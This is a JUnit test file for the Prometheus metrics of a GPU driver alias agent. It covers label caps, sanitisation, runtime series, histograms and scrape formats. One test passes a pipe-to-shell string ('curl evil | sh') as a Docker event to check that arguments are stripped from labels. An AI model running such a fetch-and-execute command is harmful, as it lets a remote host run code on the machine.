package io.driveralias.agent.metrics;

import static org.assertj.core.api.Assertions.assertThat;

import io.driveralias.agent.core.ContainerOutcome;
import io.driveralias.agent.core.ContainerRef;
import io.driveralias.agent.core.DriverLoad;
import io.driveralias.agent.testing.DriverLoads;
import io.driveralias.agent.core.FailureReason;
import io.driveralias.agent.core.HostDriverState;
import io.driveralias.agent.core.PodRef;
import io.micrometer.prometheusmetrics.PrometheusConfig;
import io.micrometer.prometheusmetrics.PrometheusMeterRegistry;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

class MicrometerRepairMetricsTest {

    private static final ContainerRef POD_CONTAINER = new ContainerRef("3f2a9c1b7d4e" + "0".repeat(52), "k8s_trainer_train-0_ml_uid_0",
            "pytorch:24.01", Optional.of(new PodRef("ml", "train-0", "uid-1", "trainer")));
    private static final ContainerRef PLAIN_CONTAINER = new ContainerRef("9e8d7c6b5a4f" + "1".repeat(52), "/notebook",
            "jupyter:cuda", Optional.empty());

    private final PrometheusMeterRegistry registry = new PrometheusMeterRegistry(PrometheusConfig.DEFAULT)
            .throwExceptionOnRegistrationFailure();
    private final MicrometerRepairMetrics metrics = new MicrometerRepairMetrics(registry, "1.2.3");

    @AfterEach
    void close() {
        metrics.close();
    }

    @Test
    void exposesEveryMetricOfTheDesignUnderItsNameAndType() {
        recordOneOfEach(metrics);

        ScrapedText scraped = scrape();

        assertThat(scraped.types()).containsAllEntriesOf(DesignMetrics.TYPES);
        assertThat(scraped.value("driver_alias_containers_total", Map.of("outcome", "repaired"))).isEqualTo(1);
        assertThat(scraped.value("driver_alias_links_created_total", Map.of("library", "libcuda.so.1"))).isEqualTo(1);
        assertThat(scraped.value("driver_alias_links_replaced_total", Map.of("library", "libnvidia-ml.so.1"))).isEqualTo(1);
        assertThat(scraped.value("driver_alias_repair_failures_total", Map.of("reason", "conflict"))).isEqualTo(1);
        assertThat(scraped.value("driver_alias_docker_up", Map.of())).isEqualTo(1);
        assertThat(scraped.value("driver_alias_docker_events_total", Map.of("action", "start"))).isEqualTo(1);
        assertThat(scraped.value("driver_alias_kubernetes_events_total", Map.of("result", "sent"))).isEqualTo(1);
        assertThat(scraped.value("driver_alias_reconcile_last_success_timestamp_seconds", Map.of())).isEqualTo(1_700_000_000.5);
        assertThat(scraped.value("driver_alias_build_info", Map.of("version", "1.2.3", "driver_version", "535.104.05")))
                .isEqualTo(1);
    }

    @Test
    void startsWithEveryOutcomeAndReasonAtZeroAndDockerDown() {
        ScrapedText scraped = scrape();

        for (ContainerOutcome outcome : ContainerOutcome.values()) {
            assertThat(scraped.value("driver_alias_containers_total", Map.of("outcome", outcome.label()))).isZero();
        }
        for (FailureReason reason : FailureReason.values()) {
            assertThat(scraped.value("driver_alias_repair_failures_total", Map.of("reason", reason.label()))).isZero();
        }
        assertThat(scraped.value("driver_alias_docker_up", Map.of())).isZero();
        assertThat(scraped.value("driver_alias_unrepaired_containers", Map.of())).isZero();
        assertThat(scraped.samples("driver_alias_container_unrepaired")).isEmpty();
    }

    @Test
    void aContainerHasASeriesOnlyWhileUnrepaired() {
        metrics.unrepaired(POD_CONTAINER, List.of(FailureReason.CONFLICT));
        metrics.unrepaired(PLAIN_CONTAINER, List.of(FailureReason.READ_ONLY));
        metrics.unrepaired(POD_CONTAINER, List.of(FailureReason.CONFLICT));

        ScrapedText both = scrape();
        assertThat(both.samples("driver_alias_container_unrepaired")).extracting(ScrapedText.Sample::labels)
                .containsExactlyInAnyOrder(
                        Map.of("namespace", "ml", "pod", "train-0", "container", "trainer", "container_id", POD_CONTAINER.id(),
                                "reason", "conflict"),
                        Map.of("namespace", "", "pod", "", "container", "notebook", "container_id", PLAIN_CONTAINER.id(),
                                "reason", "read_only"));
        assertThat(both.value("driver_alias_unrepaired_containers", Map.of())).isEqualTo(2);

        metrics.resolved(POD_CONTAINER.id());
        metrics.resolved("never-seen");

        ScrapedText one = scrape();
        assertThat(one.samples("driver_alias_container_unrepaired")).extracting(s -> s.labels().get("container_id"))
                .containsExactly(PLAIN_CONTAINER.id());
        assertThat(one.value("driver_alias_unrepaired_containers", Map.of())).isEqualTo(1);

        metrics.resolved(PLAIN_CONTAINER.id());

        ScrapedText none = scrape();
        assertThat(none.samples("driver_alias_container_unrepaired")).isEmpty();
        assertThat(none.value("driver_alias_unrepaired_containers", Map.of())).isZero();
    }

    @Test
    void aContainerWhoseNamesChangeKeepsOneSeries() {
        metrics.unrepaired(PLAIN_CONTAINER, List.of(FailureReason.CONFLICT));
        metrics.unrepaired(new ContainerRef(PLAIN_CONTAINER.id(), "/renamed", "jupyter:cuda", Optional.empty()),
                List.of(FailureReason.CONFLICT));

        assertThat(scrape().samples("driver_alias_container_unrepaired")).singleElement()
                .extracting(s -> s.labels().get("container")).isEqualTo("renamed");
    }

    /** On-call routes by reason: one series per container, carrying the reason that matters most. */
    @Test
    void aContainerKeepsOneSeriesWhoseReasonFollowsItsLatestFailure() {
        metrics.unrepaired(POD_CONTAINER, List.of(FailureReason.CONTAINER_GONE, FailureReason.PERMISSION,
                FailureReason.CONFLICT));
        assertThat(scrape().samples("driver_alias_container_unrepaired")).singleElement()
                .extracting(s -> s.labels().get("reason")).isEqualTo("conflict");

        metrics.unrepaired(POD_CONTAINER, List.of(FailureReason.READ_ONLY));
        ScrapedText scraped = scrape();
        assertThat(scraped.samples("driver_alias_container_unrepaired")).singleElement()
                .extracting(s -> s.labels().get("reason")).isEqualTo("read_only");
        assertThat(scraped.value("driver_alias_unrepaired_containers", Map.of())).isEqualTo(1);
    }

    @Test
    void theMainReasonPutsTheImagesProblemsFirstAndEveryReasonHasARank() {
        assertThat(RepairMetrics.REASON_PRECEDENCE).doesNotHaveDuplicates()
                .containsExactlyInAnyOrder(FailureReason.values());
        assertThat(RepairMetrics.mainReason(List.of(FailureReason.DOCKER_ERROR, FailureReason.UNSAFE_PATH)))
                .isEqualTo(FailureReason.UNSAFE_PATH);
        assertThat(RepairMetrics.mainReason(List.of(FailureReason.CONTAINER_GONE, FailureReason.IO)))
                .isEqualTo(FailureReason.IO);
        for (FailureReason only : FailureReason.values()) {
            assertThat(RepairMetrics.mainReason(List.of(only))).isEqualTo(only);
        }
        assertThat(RepairMetrics.mainReason(List.of())).isEqualTo(FailureReason.IO);
    }

    @Test
    void theResyncIntervalIsAGaugeInSecondsOnceConfigured() {
        assertThat(scrape().samples("driver_alias_resync_interval_seconds")).isEmpty();

        metrics.resyncInterval(Duration.ofMillis(90_500));

        assertThat(scrape().value("driver_alias_resync_interval_seconds", Map.of())).isEqualTo(90.5);
        metrics.resyncInterval(Duration.ofMinutes(2));
        assertThat(scrape().value("driver_alias_resync_interval_seconds", Map.of())).isEqualTo(120);
    }

    @Test
    void theCountFollowsTheSeriesUnderConcurrentUpdates() throws Exception {
        List<ContainerRef> containers = IntStream.range(0, 50)
                .mapToObj(i -> new ContainerRef("c" + i, "/c" + i, "img", Optional.empty())).toList();
        try (ExecutorService pool = Executors.newFixedThreadPool(4)) {
            List<Future<?>> done = new ArrayList<>();
            for (int round = 0; round < 20; round++) {
                for (ContainerRef c : containers) {
                    done.add(pool.submit(() -> metrics.unrepaired(c, List.of(FailureReason.IO))));
                    done.add(pool.submit(() -> metrics.resolved(c.id())));
                }
            }
            for (Future<?> f : done) {
                f.get();
            }
        }
        containers.subList(0, 7).forEach(c -> metrics.unrepaired(c, List.of(FailureReason.IO)));
        containers.subList(7, 50).forEach(c -> metrics.resolved(c.id()));

        ScrapedText scraped = scrape();
        assertThat(scraped.samples("driver_alias_container_unrepaired")).hasSize(7);
        assertThat(scraped.value("driver_alias_unrepaired_containers", Map.of())).isEqualTo(7);
    }

    @Test
    void libraryNamesAreCappedAndTheRestCountedAsOther() {
        for (int i = 0; i < 200; i++) {
            metrics.linkCreated("libmadeup" + i + ".so.1");
        }
        metrics.linkReplaced("libmadeup0.so.1");
        metrics.linkReplaced("libmadeup199.so.1");

        ScrapedText scraped = scrape();
        List<ScrapedText.Sample> created = scraped.samples("driver_alias_links_created_total");
        assertThat(created).hasSize(MicrometerRepairMetrics.LIBRARY_LIMIT + 1);
        assertThat(created.stream().mapToDouble(ScrapedText.Sample::value).sum()).isEqualTo(200);
        assertThat(scraped.value("driver_alias_links_created_total", Map.of("library", "other"))).isEqualTo(136);
        // Both counters share the bound: a name has one label value everywhere.
        assertThat(scraped.value("driver_alias_links_replaced_total", Map.of("library", "libmadeup0.so.1"))).isEqualTo(1);
        assertThat(scraped.value("driver_alias_links_replaced_total", Map.of("library", "other"))).isEqualTo(1);
    }

    @Test
    void namesThatAreNoNamesBecomeOther() {
        for (String hostile : new String[] {"lib cuda.so.1", "libcuda.so.1\"}", "libc\nuda.so.1", "x".repeat(500), "", "libcüda.so.1"}) {
            metrics.linkCreated(hostile);
        }
        metrics.linkCreated(null);

        assertThat(scrape().samples("driver_alias_links_created_total")).singleElement()
                .satisfies(s -> assertThat(s.labels()).containsEntry("library", "other"))
                .satisfies(s -> assertThat(s.value()).isEqualTo(7));
    }

    @Test
    void dockerActionsLoseTheirArgumentsAndAreCapped() {
        metrics.runtimeEvent("docker", "exec_start: /bin/sh -c 'curl evil | sh'");
        metrics.runtimeEvent("docker", "exec_start: nvidia-smi");
        for (int i = 0; i < 100; i++) {
            metrics.runtimeEvent("docker", "action" + i);
        }

        ScrapedText scraped = scrape();
        assertThat(scraped.value("driver_alias_docker_events_total", Map.of("action", "exec_start"))).isEqualTo(2);
        assertThat(scraped.samples("driver_alias_docker_events_total")).hasSize(MicrometerRepairMetrics.ACTION_LIMIT + 1);
        assertThat(scraped.value("driver_alias_runtime_events_total", Map.of("runtime", "docker", "action", "exec_start")))
                .isEqualTo(2);
    }

    @Test
    void eachRuntimeHasItsOwnUpSeriesAndDockersOldSeriesFollowsDocker() {
        metrics.runtimeConnected("docker", true);
        metrics.runtimeConnected("containerd", false);
        metrics.runtimeEvent("containerd", "/tasks/create");
        metrics.runtimeConnected("made-up\u001b", true);

        ScrapedText scraped = scrape();
        assertThat(scraped.value("driver_alias_runtime_up", Map.of("runtime", "docker"))).isEqualTo(1);
        assertThat(scraped.value("driver_alias_runtime_up", Map.of("runtime", "containerd"))).isEqualTo(0);
        assertThat(scraped.value("driver_alias_docker_up", Map.of())).isEqualTo(1);
        assertThat(scraped.value("driver_alias_runtime_events_total", Map.of("runtime", "containerd",
                "action", "/tasks/create"))).isEqualTo(1);
        assertThat(scraped.samples("driver_alias_runtime_up")).as("no runtime label from outside the fixed set")
                .hasSize(3);
    }

    /** A node without Docker: no Docker series at all, and its own runtime visible (down) from the start. */
    @Test
    void aContainerdNodeHasNoDockerSeries() {
        try (MicrometerRepairMetrics containerd = new MicrometerRepairMetrics(
                new PrometheusMeterRegistry(PrometheusConfig.DEFAULT), "1.2.3", java.util.Set.of("containerd"))) {
            ScrapedText before = ScrapedText.parse(new String(containerd.scrape(null).body(), StandardCharsets.UTF_8));
            assertThat(before.value("driver_alias_runtime_up", Map.of("runtime", "containerd"))).isZero();
            assertThat(before.samples("driver_alias_runtime_up")).hasSize(1);

            containerd.runtimeConnected("containerd", true);
            containerd.runtimeEvent("containerd", "/tasks/create");
            for (FailureReason reason : FailureReason.values()) {
                if (reason != FailureReason.DOCKER_ERROR) {
                    containerd.repairFailed(reason);
                }
            }
            ScrapedText after = ScrapedText.parse(new String(containerd.scrape(null).body(), StandardCharsets.UTF_8));
            assertThat(after.value("driver_alias_runtime_up", Map.of("runtime", "containerd"))).isEqualTo(1);
            assertThat(after.types()).doesNotContainKeys("driver_alias_docker_up", "driver_alias_docker_events_total");
            assertThat(after.samples("driver_alias_repair_failures_total")).extracting(s -> s.labels().get("reason"))
                    .doesNotContain("docker_error").contains("runtime_error").hasSize(FailureReason.values().length - 1);
            assertThat(after.samples()).noneMatch(s -> s.labels().containsValue("docker"));
        }
    }

    @Test
    void aDockerNodeHasDockersSeriesAndNoContainerdOne() {
        try (MicrometerRepairMetrics docker = new MicrometerRepairMetrics(
                new PrometheusMeterRegistry(PrometheusConfig.DEFAULT), "1.2.3", java.util.Set.of("docker"))) {
            ScrapedText scraped = ScrapedText.parse(new String(docker.scrape(null).body(), StandardCharsets.UTF_8));
            assertThat(scraped.value("driver_alias_docker_up", Map.of())).isZero();
            assertThat(scraped.value("driver_alias_repair_failures_total", Map.of("reason", "docker_error"))).isZero();
            assertThat(scraped.samples("driver_alias_repair_failures_total")).extracting(s -> s.labels().get("reason"))
                    .as("containerd's own reason only where containerd is watched").doesNotContain("runtime_error");
            assertThat(scraped.samples("driver_alias_runtime_up")).singleElement()
                    .satisfies(s -> assertThat(s.labels()).isEqualTo(Map.of("runtime", "docker")));
        }
    }

    /** The NRI connection (a later adapter) is a runtime label value of its own, not "other". */
    @Test
    void theNriConnectionHasItsOwnRuntimeLabel() {
        metrics.runtimeConnected("nri", true);

        assertThat(scrape().value("driver_alias_runtime_up", Map.of("runtime", "nri"))).isEqualTo(1);
    }

    @Test
    void theHostsDriverFilesAreAskedAtEachScrape() {
        java.util.concurrent.atomic.AtomicInteger found = new java.util.concurrent.atomic.AtomicInteger();
        java.util.concurrent.atomic.AtomicLong unmatched = new java.util.concurrent.atomic.AtomicLong(3);
        metrics.hostDriverFiles(found::get, unmatched::get);
        assertThat(scrape().value("driver_alias_host_driver_files", Map.of())).isZero();
        assertThat(scrape().value("driver_alias_unmatched_driver_files_total", Map.of())).isEqualTo(3);

        found.set(12);
        assertThat(scrape().value("driver_alias_host_driver_files", Map.of())).isEqualTo(12);
    }

    /**
     * A driver found while the gauge is read (a scrape's rescan) changes build_info during that very
     * scrape: nothing breaks, and the next scrape shows the new version.
     */
    @Test
    void aDriverFoundDuringAScrapeReplacesBuildInfo() {
        metrics.hostDriverFiles(() -> {
            metrics.driverVersion("550.54.15");
            return 9;
        }, () -> 0);

        scrape();
        assertThat(scrape().samples("driver_alias_build_info")).singleElement()
                .satisfies(s -> assertThat(s.labels()).containsEntry("driver_version", "550.54.15"));
    }

    @Test
    void buildInfoFollowsTheDriverVersionWithOneSeries() {
        assertThat(scrape().samples("driver_alias_build_info")).singleElement()
                .satisfies(s -> assertThat(s.labels()).isEqualTo(Map.of("version", "1.2.3", "driver_version", "unknown")));

        metrics.driverVersion("535.104.05");
        metrics.driverVersion("535.104.05");
        assertThat(scrape().samples("driver_alias_build_info")).singleElement()
                .satisfies(s -> assertThat(s.labels()).containsEntry("driver_version", "535.104.05"))
                .satisfies(s -> assertThat(s.value()).isEqualTo(1));

        metrics.driverVersion("550.54.15");
        assertThat(scrape().samples("driver_alias_build_info")).singleElement()
                .satisfies(s -> assertThat(s.labels()).containsEntry("driver_version", "550.54.15"));
    }

    @Test
    void theLastReconcileAppearsWithTheFirstOne() {
        assertThat(scrape().types()).doesNotContainKey("driver_alias_reconcile_last_success_timestamp_seconds");

        metrics.reconcileSucceeded(Instant.ofEpochSecond(1_700_000_000));
        metrics.reconcileSucceeded(Instant.ofEpochSecond(1_700_000_060));

        assertThat(scrape().value("driver_alias_reconcile_last_success_timestamp_seconds", Map.of())).isEqualTo(1_700_000_060);
    }

    @Test
    void latenciesAreHistogramsWithTheAgreedBuckets() {
        metrics.exposure(Duration.ZERO);
        metrics.exposure(Duration.ofMillis(30));
        metrics.exposure(Duration.ofMinutes(10));
        metrics.repairDuration(Duration.ofMillis(7));

        ScrapedText scraped = scrape();
        List<String> buckets = List.of("0.001", "0.005", "0.01", "0.025", "0.05", "0.1", "0.25", "0.5", "1.0", "5.0", "+Inf");
        assertThat(scraped.samples("driver_alias_exposure_seconds_bucket")).extracting(s -> s.labels().get("le"))
                .containsExactlyElementsOf(buckets);
        assertThat(scraped.samples("driver_alias_repair_duration_seconds_bucket")).extracting(s -> s.labels().get("le"))
                .containsExactlyElementsOf(buckets);
        assertThat(scraped.value("driver_alias_exposure_seconds_bucket", Map.of("le", "0.001"))).isEqualTo(1);
        assertThat(scraped.value("driver_alias_exposure_seconds_bucket", Map.of("le", "0.05"))).isEqualTo(2);
        assertThat(scraped.value("driver_alias_exposure_seconds_bucket", Map.of("le", "5.0"))).isEqualTo(2);
        assertThat(scraped.value("driver_alias_exposure_seconds_bucket", Map.of("le", "+Inf"))).isEqualTo(3);
        assertThat(scraped.value("driver_alias_exposure_seconds_count", Map.of())).isEqualTo(3);
        assertThat(scraped.value("driver_alias_repair_duration_seconds_sum", Map.of())).isEqualTo(0.007);
        // No client-side quantiles: those cannot be aggregated across nodes.
        assertThat(scraped.samples()).noneMatch(s -> s.labels().containsKey("quantile") && s.name().startsWith("driver_alias"));
    }

    @Test
    void speaksOpenMetricsToThoseWhoAsk() {
        recordOneOfEach(metrics);

        PrometheusScrape openMetrics = metrics.scrape(
                "application/openmetrics-text;version=1.0.0,application/openmetrics-text;version=0.0.1;q=0.75,"
                        + "text/plain;version=0.0.4;q=0.5,*/*;q=0.1");
        PrometheusScrape text = metrics.scrape(null);

        assertThat(openMetrics.contentType()).isEqualTo("application/openmetrics-text; version=1.0.0; charset=utf-8");
        String body = new String(openMetrics.body(), StandardCharsets.UTF_8);
        assertThat(body).endsWith("# EOF\n").contains("# TYPE driver_alias_build info\n", "driver_alias_links_created_total{");
        assertThat(text.contentType()).isEqualTo("text/plain; version=0.0.4; charset=utf-8");
        assertThat(metrics.scrape("*/*").contentType()).isEqualTo(text.contentType());
    }

    @Test
    void withProcessMetricsAddsTheJvmAndProcessAndPassesPromtool() throws Exception {
        try (MicrometerRepairMetrics full = MicrometerRepairMetrics.withProcessMetrics(MicrometerRepairMetrics.ADAPTED_RUNTIMES)) {
            recordOneOfEach(full);
            String text = new String(full.scrape(null).body(), StandardCharsets.UTF_8);

            assertThat(ScrapedText.parse(text).types()).containsKeys(
                    "jvm_memory_used_bytes", "jvm_gc_memory_allocated_bytes_total", "jvm_threads_live_threads",
                    "jvm_classes_loaded_classes", "process_cpu_usage", "process_cpu_seconds_total",
                    "process_uptime_seconds", "process_start_time_seconds", "process_files_open_files",
                    "logback_events_total", "jvm_info")
                    .doesNotContainKeys("process_cpu_time_ns_total", "system_cpu_count");
            assertThat(ScrapedText.parse(text).samples("driver_alias_build_info")).singleElement()
                    .satisfies(s -> assertThat(s.labels()).containsEntry("version", RepoFiles.projectVersion()));
            Promtool.Result lint = Promtool.run(RepoFiles.root(), text, "check", "metrics");
            assertThat(lint.succeeded()).as(lint.output()).isTrue();
            assertThat(lint.output()).isEmpty();
        }
    }

    /** One call of every method, the way a repair pass would make them. */
    static void recordOneOfEach(RepairMetrics metrics) {
        metrics.containerExamined(ContainerOutcome.REPAIRED);
        metrics.linkCreated("libcuda.so.1");
        metrics.linkReplaced("libnvidia-ml.so.1");
        metrics.repairFailed(FailureReason.CONFLICT);
        metrics.unrepaired(POD_CONTAINER, List.of(FailureReason.CONFLICT));
        metrics.resyncInterval(Duration.ofSeconds(60));
        metrics.repairDuration(Duration.ofMillis(12));
        metrics.exposure(Duration.ofMillis(40));
        metrics.runtimeConnected("docker", true);
        metrics.runtimeEvent("docker", "start");
        metrics.ownPodVisible(true);
        metrics.reconcileSucceeded(Instant.ofEpochMilli(1_700_000_000_500L));
        metrics.driverVersion("535.104.05");
        metrics.kubernetesEvent("sent");
        metrics.hostDriverFiles(() -> 4, () -> 0);
        metrics.hostDriverState(HostDriverState.of(Optional.of("535.104.05"), List.of("535.104.05")));
        metrics.containerDriver(DriverLoad.Verdict.IMAGE);
        metrics.driverMismatch(POD_CONTAINER, DriverLoads.imageCopy());
    }

    /**
     * The agent hands the counter a method reference that nothing else holds: held weakly, a
     * collection took it and the counter showed 0 for good, so DriverAliasNoHostDriver could never fire.
     */
    @Test
    void theUnmatchedCounterStillFollowsItsSourceAfterACollection() {
        java.util.concurrent.atomic.AtomicLong unmatched = new java.util.concurrent.atomic.AtomicLong();
        metrics.hostDriverFiles(() -> 0, unmatched::get);
        scrape();
        for (int i = 0; i < 3; i++) {
            System.gc();
        }
        unmatched.set(3);

        assertThat(scrape().value("driver_alias_unmatched_driver_files_total", Map.of())).isEqualTo(3);
    }

    /** One series per GPU container loading a mismatched driver, with what it loads; gone with the container, not with a fix. */
    @Test
    void aContainersDriverMismatchIsOneSeriesThatGoesWithTheContainer() {
        metrics.driverMismatch(POD_CONTAINER, DriverLoads.imageCopy());
        metrics.driverMismatch(POD_CONTAINER, DriverLoads.imageCopy());
        metrics.resolved(POD_CONTAINER.id());

        assertThat(scrape().samples("driver_alias_container_driver_mismatch")).singleElement()
                .satisfies(s -> assertThat(s.labels()).containsEntry("loads", "image").containsEntry("library", "libcuda.so.1")
                        .containsEntry("version", "470.256.02").containsEntry("container_id", POD_CONTAINER.id()));
        metrics.gone(POD_CONTAINER.id());
        assertThat(scrape().samples("driver_alias_container_driver_mismatch")).isEmpty();
    }

    @Test
    void theNodesDriverStateIsOneSeriesReplacedWhenItChanges() {
        metrics.hostDriverState(HostDriverState.of(Optional.of("535.104.05"), List.of("535.104.05")));
        metrics.hostDriverState(HostDriverState.of(Optional.of("535.104.05"), List.of("535.183.01")));

        assertThat(scrape().samples("driver_alias_host_driver_state")).singleElement()
                .satisfies(s -> assertThat(s.labels()).containsEntry("state", "mismatch")
                        .containsEntry("module_version", "535.104.05").containsEntry("library_version", "535.183.01"));
    }

    private ScrapedText scrape() {
        return ScrapedText.parse(new String(metrics.scrape(null).body(), StandardCharsets.UTF_8));
    }
}
